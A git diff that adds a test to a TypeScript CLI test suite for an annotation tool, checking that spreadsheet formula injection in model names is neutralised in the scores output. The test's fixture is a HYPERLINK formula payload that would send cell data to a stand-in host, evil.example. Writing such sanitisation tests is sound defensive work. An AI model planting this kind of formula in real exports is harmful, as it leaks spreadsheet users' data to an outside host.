@@ -148,6 +148,29 @@ describe("consilium CLI", () => {
     expect((await cli("scores", "hb", "--as", "res@x.org")).code).not.toBe(0);
   });
 
+  it("prints the scores table with formula-like model names neutralized (tab-separated, read back by a CSV reader)", async () => {
+    await bootstrap();
+    await cli("create-project", "--template", "healthbench-criteria", "--name", "Inj", "--per-item", "1", "--as", "admin@x.org");
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"x")';
+    const file = path.join(tmp(), "inj.jsonl");
+    writeFileSync(file, JSON.stringify({ kind: "dialogue", externalId: "d1", turns: [{ role: "user", content: "Hi" }], responses: [{ modelName: evil, content: "Hello" }], criteria: [{ criterion: "greets", points: 4, tags: ["axis:-x"] }] }) + "\n");
+    expect((await cli("import", "inj", file, "--as", "admin@x.org")).code).toBe(0);
+    expect((await cli("assign", "inj", "--batch", "R1", "--per-item", "1", "--as", "admin@x.org")).code).toBe(0);
+    const a = await getDb().assignment.findFirstOrThrow({ include: { item: { include: { criteria: true } }, reviewer: true } });
+    const { saveAnnotation } = await import("@/lib/annotations/save-annotation");
+    const { emptyAnnotationData } = await import("@/lib/annotations/schema");
+    const data = { ...emptyAnnotationData(), responses: { [a.responseOrder[0]]: { ratings: { overall_quality: 4 }, comments: {}, criteria: { [a.item.criteria[0].id]: { met: false } } } } };
+    const actor = { id: a.reviewerId, role: "REVIEWER" as const, email: a.reviewer.email, name: a.reviewer.name };
+    expect(await saveAnnotation(actor, a.id, { baseVersion: 0, clientMutationId: "inj-scores", data, submit: true })).toMatchObject({ status: "saved" });
+
+    const { out, code } = await cli("scores", "inj", "--as", "admin@x.org");
+    expect(code).toBe(0);
+    const { parse } = await import("csv-parse/sync");
+    const rows: string[][] = parse(out, { delimiter: "\t", relax_column_count: true });
+    expect(rows[0].slice(0, 2)).toEqual([`'${evil}`, "overall 0.000 ± 0.000 (n=1)"]);
+    expect(rows[1][0]).toBe("  axis:-x");
+  });
+
   it("prints help for every command", async () => {
     for (const name of ["create-user", "create-project", "import", "upload-images", "assign", "export", "create-token", "templates"]) {
       const r = await cli(name, "--help");
